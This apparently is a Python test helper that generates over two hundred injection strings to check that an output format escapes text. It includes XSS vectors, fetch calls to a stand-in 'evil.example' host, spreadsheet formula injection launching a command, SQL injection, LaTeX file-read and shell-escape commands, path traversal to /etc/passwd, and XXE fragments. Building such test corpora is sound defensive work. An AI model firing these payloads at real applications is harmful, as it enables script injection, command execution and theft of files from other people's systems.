"""Texts that mean something else to a format that forgets to escape them."""

from __future__ import annotations

from itertools import product

_CODE = ("ar_ran(1)", "fetch('//evil.example')")
_TAGS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" onmouseover={} x="',
    "' onfocus={} autofocus x='",
    "`onclick={}`",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    "<a href=javascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>",
    "<math><mi xlink:href=javascript:{}>x</mi></math>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<video><source onerror={}></video>",
    "<marquee onstart={}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/ {}>",
    "<link rel=stylesheet href=//evil.example/{}>",
    "<style>*{{background:url(//evil.example/{})}}</style>",
    "<template><script>{}</script></template>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<ScRiPt >{}</ScRiPt >",
    "<scr<script>ipt>{}</script>",
    "<!--<script>{}",
    "<![CDATA[<script>{}]]>",
    "<?xml version='1.0'?><!DOCTYPE x SYSTEM '//evil.example/{}'>",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//evil.example/{}",
    "[x](javascript:{})",
    "[x](data:text/html;base64,{})",
    "![x](//evil.example/{})",
    "<javascript:{}>",
    "[x]: javascript:{}",
    "[x](//evil.example 'onclick={}')",
    "{{: onclick={} }}",
)
_TEMPLATES = (
    "{{{{ 7 * 7 }}}}",
    "{{% raw %}}{}",
    "{{{{ config.__class__.__mro__ }}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7 * 7 %>",
    "--8<-- 'mkdocs.yml'",
    "!ENV HOME",
    "zq7body7qz zq7policy7qz {}",
)
_FORMATS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    '=HYPERLINK("//evil.example")',
    "}} @article{{evil, title = {{x}}",
    "\\input{{/etc/passwd}}",
    "\\write18{{id}}",
    "%0A::error file=x::y",
    "::set-output name=x::y",
    '"; DROP TABLE papers; --',
    "' OR 1=1 --",
    '" . <#evil> a <#evil> . "',
    '""" . <#evil> a <#evil> .',
    "TY  - EVIL",
    "\\\\ \\n \\u0000",
    "a\"b'c`d<e>f&g",
    "]]>&xxe;<!ENTITY",
    "../../../etc/passwd",
    "%2e%2e%2f",
    "Constructor",
    "__proto__",
    "toString",
    "[@ nobody 2024]",
    "*bold* _it_ **x** # y",
)


def payloads() -> tuple[str, ...]:
    """Return two hundred and more different texts, each one line without control characters."""
    coded = [form.format(code) for form, code in product((*_TAGS, *_ADDRESSES), _CODE)]
    plain = [form.format("x") for form in (*_TEMPLATES, *_FORMATS)]
    around = [f"x {text} y" for text in (*coded[::2], *plain)]
    return tuple(dict.fromkeys((*coded, *plain, *around)))
